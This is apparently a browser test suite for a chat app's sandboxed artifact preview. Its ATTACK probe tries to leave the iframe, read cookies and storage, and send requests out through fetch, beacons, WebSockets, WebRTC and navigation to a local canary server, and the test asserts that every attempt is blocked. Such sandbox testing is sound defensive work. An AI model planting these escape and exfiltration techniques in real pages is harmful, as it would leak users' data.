"""Artifacts: code of replies at work in a frame that can reach nothing."""

import asyncio
import html
import json
import os
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Final

import pytest
from playwright.async_api import FrameLocator, expect

from tests.browser.chat_page import ChatPage
from tests.browser.sites import Site

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

# Each way out is tried by itself; what it came to is written into the document.
ATTACK: Final = """<!doctype html><title>Probe</title>
<meta http-equiv="refresh" content="1; url=CANARY/refresh">
<link rel="stylesheet" href="CANARY/style.css"><link rel="preconnect" href="CANARY"><link rel="prefetch" href="CANARY/prefetch">
<img src="CANARY/picture.png"><iframe src="CANARY/frame"></iframe><object data="CANARY/object"></object>
<style>@import url(CANARY/import.css); body { background: url(CANARY/ground.png) }</style>
<form id="form" action="CANARY/form" method="post"><input name="a" value="b"></form><a id="link" href="CANARY/link" target="_top">x</a>
<pre id="told"></pre>
<script src="CANARY/script.js"></script>
<script>
const told = [];
const attempt = (name, act) => { try { const got = act(); told.push(name + ': ' + (got === undefined || got === null ? 'nothing' : 'GOT')); } catch (error) { told.push(name + ': refused'); } };
attempt('top', () => { top.location = 'CANARY/top'; });
attempt('parent', () => { parent.parent.location = 'CANARY/parent'; });
attempt('page', () => parent.parent.document.body);
attempt('dom', () => parent.document.body);
attempt('storage', () => localStorage.length + 1);
attempt('session', () => sessionStorage.length + 1);
attempt('cookie', () => document.cookie + 'x');
attempt('window', () => window.open('CANARY/window'));
attempt('form', () => { document.getElementById('form').submit(); });
attempt('link', () => { document.getElementById('link').click(); });
attempt('fetch', () => { fetch('CANARY/fetch').then(() => told.push('fetch: GOT'), () => {}); });
attempt('beacon', () => navigator.sendBeacon('CANARY/beacon', 'x') ? undefined : null);
attempt('socket', () => { new WebSocket('CANARY/socket'.replace('http', 'ws')); });
attempt('events', () => { new EventSource('CANARY/events'); });
attempt('worker', () => { new Worker('CANARY/worker.js'); });
attempt('image', () => { new Image().src = 'CANARY/image'; });
attempt('peers', () => { const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:HOST'}]}); peer.createDataChannel('x'); peer.createOffer().then(offer => peer.setLocalDescription(offer)); return peer; });
attempt('import', () => { import('CANARY/module.js').then(() => told.push('import: GOT'), () => {}); });
attempt('own fetch', () => { fetch('PAGE/theme.css?own-fetch').then(() => told.push('own fetch: GOT'), () => {}); });
attempt('own server', () => { const frame = document.createElement('iframe'); frame.src = 'PAGE/theme.css'; document.body.append(frame); });
setTimeout(() => { document.getElementById('told').textContent = told.join('\\n'); }, 200);
const leave = () => {
  setTimeout(() => { location = 'CANARY/self'; });
  setTimeout(() => { location = 'PAGE/theme.css?self'; }, 200);
};
</script>
<button id="leave" onclick="leave()">Leave</button>"""


class Canary:
    """Notes whoever connects, whatever is said."""

    def __init__(self) -> None:
        self.visits: list[str] = []

    async def take(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        line = await reader.readline()
        self.visits.append(line.decode(errors="replace"))
        writer.close()


@asynccontextmanager
async def canary() -> AsyncIterator[tuple[Canary, str]]:
    watched = Canary()
    server = await asyncio.start_server(watched.take, "127.0.0.1", 0)
    async with server:
        yield watched, f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}"


def keep_chat(site: Site, name: str, *replies: str) -> Path:
    """A chat with these replies, the newest of all."""
    file = site.data / "logs" / "instruct" / f"{name}.json"
    rows = [["Show me", reply] for reply in replies]
    shown = [["Show me", html.escape(reply)] for reply in replies]
    file.write_text(json.dumps({"internal": rows, "visible": shown}), encoding="utf-8")
    os.utime(file)
    return file


def inner(chat: ChatPage) -> FrameLocator:
    """The artifact's own document."""
    return chat.page.frame_locator("#artifact iframe").frame_locator("iframe")


async def opened(chat: ChatPage, scripted: Site, name: str, *replies: str) -> None:
    keep_chat(scripted, name, *replies)
    await chat.page.reload()
    await chat.open(name)
    await expect(chat.replies).to_have_count(len(replies))


async def test_an_artifact_reaches_nothing(chat: ChatPage, scripted: Site) -> None:
    asked: list[str] = []
    chat.page.on("request", lambda request: asked.append(request.url))
    async with canary() as (watched, address):
        code = ATTACK.replace("CANARY", address).replace("HOST", address.removeprefix("http://"))
        code = code.replace("PAGE", scripted.url.rstrip("/"))
        await opened(chat, scripted, "Probe", f"```html\n{code}\n```")
        await chat.page.locator(".artifact-open").click()
        told = inner(chat).locator("#told")
        await expect(told).to_contain_text("own server")
        lines = (await told.inner_text()).splitlines()
        assert not [line for line in lines if "GOT" in line], lines
        refused = {line.partition(":")[0] for line in lines if line.endswith("refused")}
        assert {"page", "dom", "storage", "session", "cookie", "peers"} <= refused
        # The last attempts may empty the document, so they wait until it was read.
        await inner(chat).locator("#leave").click()
        await chat.page.wait_for_timeout(1500)
        assert watched.visits == []
        # The page's own policy would let these through.
        assert not [url for url in asked if "theme.css?self" in url or "theme.css?own" in url]
        assert chat.page.url.startswith(scripted.url)
        await expect(chat.box).to_be_visible()
    await chat.page.get_by_role("button", name="Close preview").click()
    await expect(chat.page.locator("#artifact")).to_have_count(0)


async def test_versions_source_and_kinds(chat: ChatPage, scripted: Site) -> None:
    first, second = (
        f"```html\n<title>Game {n}</title><p id=p>none</p><script>p.textContent = 'ran {n}'</script>\n```"
        for n in (1, 2)
    )
    drawing = "```svg\n<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 9 9'><circle r='3' /></svg>\n```"
    notes = "```markdown\n# Plan\n\n- **one**\n- <b>two</b>\n```"
    diagram = "```mermaid\ngraph TD; A-->B;\n```"
    await opened(chat, scripted, "Kinds", first, f"{drawing}\n\n{notes}\n\n{diagram}", second)
    page = chat.page
    buttons = page.get_by_role("button", name="Open preview")
    await expect(buttons).to_have_count(5)
    await buttons.first.click()
    await expect(inner(chat).locator("p")).to_have_text("ran 1")
    await page.get_by_role("button", name="Later version").click()
    await expect(inner(chat).locator("p")).to_have_text("ran 2")
    await expect(page.locator("#artifact h2")).to_have_text("Game 2")
    await page.get_by_role("button", name="Source", exact=True).click()
    await expect(page.locator("#artifact pre")).to_contain_text("<title>Game 2</title>")
    async with page.expect_download() as download:
        await page.locator("#artifact").get_by_role("button", name="Download").click()
    assert (await download.value).suggested_filename == "Game 2.html"
    await page.get_by_role("button", name="Open preview: SVG").click()
    await expect(inner(chat).locator("circle")).to_be_attached()
    await page.get_by_role("button", name="Open preview: Markdown").click()
    await expect(inner(chat).locator("h1")).to_have_text("Plan")
    await expect(inner(chat).locator("li")).to_have_text(["one", "<b>two</b>"])
    await page.get_by_role("button", name="Open preview: Diagram").click()
    await expect(inner(chat).locator("svg .node").first).to_be_attached()
    await page.get_by_role("button", name="Source", exact=True).click()
    await expect(page.locator("#artifact pre")).to_contain_text("A-->B")
    await page.keyboard.press("Escape")
    await expect(page.locator("#artifact")).to_have_count(0)


async def test_what_the_model_rewrites_is_shown(chat: ChatPage) -> None:
    await chat.say("echo: ```html\n<p>one</p>\n```")
    await chat.page.get_by_role("button", name="Open preview").click()
    await expect(inner(chat).locator("p")).to_have_text("one")
    await chat.say("echo: ```html\n<p>two</p>\n```")
    await expect(inner(chat).locator("p")).to_have_text("two")
    await chat.page.get_by_role("button", name="Close preview").click()
